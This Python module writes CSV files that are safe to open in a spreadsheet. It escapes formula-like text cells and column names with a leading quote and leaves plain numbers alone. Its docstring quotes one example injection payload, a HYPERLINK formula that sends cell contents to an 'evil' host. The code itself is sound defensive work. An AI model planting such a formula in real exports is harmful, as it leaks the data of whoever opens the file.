"""CSV that is safe to open in a spreadsheet: formula-like text cells are escaped.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and,
in some, a tab or carriage return) as a formula: a value such as
``=HYPERLINK("http://evil/?"&A1)`` in a dataset turns an export into an attack on
whoever opens it. As OWASP recommends, every CSV shipyard writes prefixes such
cells with a single quote ``'`` (the spreadsheet then shows the text as it is).

Only text cells (string and category columns, and column names) are escaped; a
text cell that is a plain number (``-12.5``, ``+3e4``) is left alone, because a
spreadsheet reads it as that number and nothing else. Numeric columns are
never touched: a negative number stays a number. ``raw=True`` writes every cell
as it is (for tools that read the CSV back rather than people opening it).
"""

from __future__ import annotations

import re
from typing import BinaryIO

import polars as pl

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_STARTS_LIKE_A_FORMULA = r"^[=+\-@\t\r]"
_PLAIN_NUMBER = r"^[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?$"
_PLAIN_NUMBER_RE = re.compile(_PLAIN_NUMBER)
DATETIME_FORMAT = "%Y-%m-%dT%H:%M:%S%.6f%:z"
_TEXT = (pl.String, pl.Categorical, pl.Enum)


def escape_cell(value: str) -> str:
    """``value`` as a spreadsheet shows it literally: ``'`` before a formula-like start."""
    if value.startswith(FORMULA_START) and not _PLAIN_NUMBER_RE.fullmatch(value):
        return "'" + value
    return value


def escape_formulas(frame: pl.DataFrame) -> tuple[pl.DataFrame, int]:
    """``frame`` with every formula-like text cell and column name escaped; and how many were."""
    escaped = 0
    columns = []
    for name, dtype in frame.schema.items():
        column = pl.col(name)
        if isinstance(dtype, _TEXT):
            text = column.cast(pl.String)
            risky = text.str.contains(_STARTS_LIKE_A_FORMULA) & ~text.str.contains(_PLAIN_NUMBER)
            escaped += int(frame.select(risky.sum()).item() or 0)
            column = pl.when(risky).then(pl.lit("'") + text).otherwise(text)
        safe_name = escape_cell(name)
        escaped += safe_name != name
        columns.append(column.alias(safe_name))
    return frame.select(columns), escaped


def flatten(frame: pl.DataFrame, separator: str = "; ") -> pl.DataFrame:
    """Lists of text (a quarantined row's ``_reasons``) joined into one cell each."""
    lists = [
        pl.col(name).cast(pl.List(pl.String)).list.join(separator)
        for name, dtype in frame.schema.items()
        if isinstance(dtype, pl.List)
    ]
    return frame.with_columns(lists) if lists else frame


def write_csv(frame: pl.DataFrame, out: BinaryIO, *, raw: bool = False) -> int:
    """Write ``frame`` as CSV to ``out``; return how many cells were escaped (0 when ``raw``)."""
    frame = flatten(frame)
    escaped = 0
    if not raw:
        frame, escaped = escape_formulas(frame)
    frame.write_csv(out, datetime_format=DATETIME_FORMAT)
    return escaped


__all__ = ["FORMULA_START", "escape_cell", "escape_formulas", "flatten", "write_csv"]
